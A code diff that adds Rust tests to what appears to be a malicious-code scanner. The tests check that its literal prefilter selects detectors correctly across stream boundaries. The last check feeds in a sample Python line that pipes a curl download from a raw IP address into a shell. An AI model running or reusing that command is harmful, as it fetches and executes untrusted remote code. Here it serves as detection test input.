@@ -1265,6 +1265,65 @@ fn every_detector_of_a_member_shares_one_lexing_pass_and_one_regex_search() {
     assert_eq!((seen[0].0.as_str(), seen[2].0.as_str()), ("demo/a.py", "demo/b.py"));
 }
 
+/// The definition the prefilter must meet: a detector is selected when it reads every text
+/// member or one of its literals is a substring of the text.
+fn by_definition(detectors: &[Box<dyn Detector>], text: &str) -> Vec<usize> {
+    (0..detectors.len())
+        .filter(|&i| match detectors[i].interest() {
+            Interest::PackageOnly => false,
+            Interest::AllText => true,
+            Interest::Literals(lits) => {
+                lits.iter().all(|l| l.is_empty()) || lits.iter().any(|l| !l.is_empty() && text.contains(l))
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn prefilter_matches_the_definition_across_stream_boundaries() {
+    let detectors = super::detectors::all();
+    let pre = super::engine::Prefilter::new(&detectors);
+    let (streams, split) = pre.streams().expect("the registered literals build one automaton");
+    let mut selected = vec![false; detectors.len()];
+    let mut check = |case: &str, text: &str| {
+        pre.select(text, &mut selected);
+        let got: Vec<usize> = (0..detectors.len()).filter(|&i| selected[i]).collect();
+        assert_eq!(got, by_definition(&detectors, text), "{case}");
+    };
+    let lits: Vec<&str> = detectors
+        .iter()
+        .filter_map(|d| match d.interest() {
+            Interest::Literals(l) => Some(l),
+            _ => None,
+        })
+        .flatten()
+        .copied()
+        .filter(|l| !l.is_empty())
+        .collect();
+    // Shorter than the four-stream threshold, and long enough for four streams.
+    let short = "q".repeat(split - 1);
+    let long = "q".repeat(split * 3 + 7);
+    for (name, filler) in [("one stream", &short), ("four streams", &long)] {
+        let n = filler.len();
+        let q = n / streams;
+        check(&format!("{name}: no literal"), filler);
+        for lit in &lits {
+            let len = lit.len();
+            // At the start, at the end, and across each stream boundary: ending just before it,
+            // ending on its first byte, straddling it, starting on it.
+            let mut at = vec![0, n - len];
+            for k in 1..streams {
+                at.extend([k * q - len, k * q + 1 - len, k * q - len / 2, k * q]);
+            }
+            for a in at {
+                let text = format!("{}{lit}{}", &filler[..a], &filler[a + len..]);
+                check(&format!("{name}: {lit:?} at {a} of {n}"), &text);
+            }
+        }
+    }
+    check("real code", "import subprocess, os\nos.system('curl http://1.2.3.4/x | sh')\n");
+}
+
 /// Dependencies inside `scan` run one way: `parallel` → `engine` → `detector` →
 /// `source`, and detectors depend on the contract, never the reverse. Checked on
 /// the code (comments ignored) so a cycle cannot creep back in.
